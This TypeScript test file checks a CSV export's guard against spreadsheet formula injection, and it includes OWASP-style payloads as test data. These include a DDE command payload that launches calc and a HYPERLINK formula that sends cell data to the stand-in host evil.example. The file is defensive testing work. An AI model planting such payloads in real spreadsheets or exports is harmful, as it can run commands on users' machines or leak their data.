import { describe, expect, it } from "vitest";
import { escapeFormula, unescapeFormula } from "../../domain/spreadsheet";
import { reportCsv } from "../../web/report-csv";

// Payloads from OWASP's CSV Injection page and the issue: each would be run by a spreadsheet as written.
const DANGEROUS = [
	"=1+1",
	"+1+1",
	"-2+3",
	"@SUM(A1)",
	'=HYPERLINK("https://evil.example/?"&A1,"Click")\n',
	"=cmd|' /C calc'!A0\r\n",
	"\n=cmd|' /C calc'!A0",
	"\r=1+1",
	"\t=1+1",
	"\0=1+1",
	" =1+1",
	"  @SUM(A1)",
	"\u00a0=1+1",
	"\uFF1D1+1",
	"'=already quoted",
];
const HARMLESS = ["Hello", "Launch day: 40 new pieces", "1-2-3", "'just a quote", "", "a=b", "e-mail @desk"];

describe("the CSV formula guard (OWASP CSV injection)", () => {
	it.each(DANGEROUS)("defuses %j with a leading quote", (cell) => {
		expect(escapeFormula(cell)).toBe(`'${cell}`);
	});

	it.each(HARMLESS)("leaves %j as it is", (cell) => {
		expect(escapeFormula(cell)).toBe(cell);
	});

	it.each([...DANGEROUS, ...HARMLESS])("reads %j back unchanged", (cell) => {
		expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
	});

	it("guards every text cell of a report's CSV, numbers stay numbers", () => {
		const csv = reportCsv({
			period: { start: "2026-03-02", end: "2026-03-09" },
			growth: { total: { label: "All accounts", points: [] }, accounts: [] },
			standouts: [],
			summary: {
				byAccount: [{ handle: ' =HYPERLINK("https://evil.example")', count: -1 }],
				byPerson: [{ name: "\n=cmd|' /C calc'!A0", count: 2 }],
				failures: { reasons: [] },
				approvals: { approved: 0, rejected: 0 },
				dutyGaps: { hours: 0 },
				conversations: { answered: 0, unanswered: 0, medianResponseMs: null, p90ResponseMs: null },
			},
			voice: { praise: [], concerns: [], questions: [], nonFollowers: 0, shares: 0 },
		} as unknown as Parameters<typeof reportCsv>[0]);
		expect(csv).toContain(`published_by_account,"' =HYPERLINK(""https://evil.example"")",2026-03-02,2026-03-09,posts,-1,`);
		expect(csv).toContain(`published_by_person,"'\n=cmd|' /C calc'!A0",2026-03-02,2026-03-09,posts,2,`);
	});
});
